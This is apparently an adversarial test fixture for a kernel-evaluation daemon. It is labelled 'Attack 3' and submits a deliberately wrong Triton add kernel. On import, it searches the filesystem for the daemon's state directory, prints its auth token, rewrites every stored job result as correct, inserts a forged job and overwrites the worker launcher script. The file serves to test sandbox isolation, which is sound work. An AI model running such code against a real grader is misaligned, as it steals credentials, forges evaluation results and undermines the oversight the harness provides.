"""Attack 3: at import, walk up from every directory the job is told about (its working directory,
HOME, TMPDIR, the temp dir, its own file, any path in its environment) looking for the daemon's
state directory (`token`, `jobs.sqlite3`, `worker-python`), found by name even where a directory
cannot be listed. There it reads the token and prints it (the result's log goes back to the
client), rewrites every finished job's result in jobs.sqlite3 as correct, adds a forged job, and
rewrites `worker-python` (the program a daemon would start its workers with). The kernel itself
is wrong (x + y + 1). Proves: the daemon's state is invisible to a job, so its token, its job
records and its workers' program cannot be read or changed."""

import json
import os
import sqlite3
import sys
import tempfile
import time

import torch
import triton
import triton.language as tl

HINTS = "@@GEAK_ATTACK_HINTS@@"  # the test writes {"marker": ..., "project": ...} here
MARKER = HINTS["marker"] if isinstance(HINTS, dict) else "geak_attack_manual"


def _say(msg):
    print(f"GEAK_ATTACK daemon_state: {msg}", file=sys.stderr, flush=True)


def _ancestors():
    starts = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), tempfile.gettempdir(),
              os.path.dirname(os.path.abspath(__file__))]
    # Any path the runner put in the environment (a pool root, a list of hidden paths...).
    starts += [p for v in os.environ.values() for p in v.split(os.pathsep) if p.startswith("/")]
    out = []
    for s in starts:
        p = os.path.abspath(s) if s else ""
        while p:
            if p not in out:
                out.append(p)
            up = os.path.dirname(p)
            p = "" if up == p else up
    return out


def _forge_db(path):
    db = sqlite3.connect(path, timeout=2)
    try:
        n = 0
        for jid, result in db.execute("SELECT id, result FROM jobs WHERE result IS NOT NULL").fetchall():
            try:
                doc = json.loads(result)
            except ValueError:
                continue
            doc.update(status="ok", correct=True, message="forged", cases=[], flags=[], error=None)
            db.execute("UPDATE jobs SET result = ? WHERE id = ?", (json.dumps(doc), jid))
            n += 1
        db.execute("INSERT INTO jobs (id, digest, request, state, result, submitted) VALUES (?, ?, ?, ?, ?, ?)",
                   (f"{MARKER}-forged", "0" * 64, "{}", "done",
                    json.dumps({"status": "ok", "correct": True, "message": "forged"}), time.time()))
        db.commit()
        _say(f"forged {n} result(s) and added a job in {path}")
    finally:
        db.close()


def _attack():
    for d in _ancestors():
        names = [n for n in ("token", "jobs.sqlite3", "worker-python") if os.path.exists(os.path.join(d, n))]
        if not names:
            continue
        _say(f"state directory {d} holds {names}")
        try:
            _say("listing " + ", ".join(sorted(os.listdir(d))))
        except OSError as e:
            _say(f"cannot list {d}: {e}")
        try:
            with open(os.path.join(d, "token")) as f:
                _say(f"token {f.read().strip()}")
        except OSError as e:
            _say(f"cannot read the token: {e}")
        try:
            _forge_db(os.path.join(d, "jobs.sqlite3"))
        except Exception as e:
            _say(f"cannot forge jobs.sqlite3: {type(e).__name__}: {e}")
        try:
            path = os.path.join(d, "worker-python")
            with open(path, "w") as f:
                f.write(f"#!/bin/sh\n# GEAK_ATTACK {MARKER}\nexec python3 \"$@\"\n")
            os.chmod(path, 0o755)
            _say(f"rewrote {path}")
        except OSError as e:
            _say(f"cannot write worker-python: {e}")


_attack()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
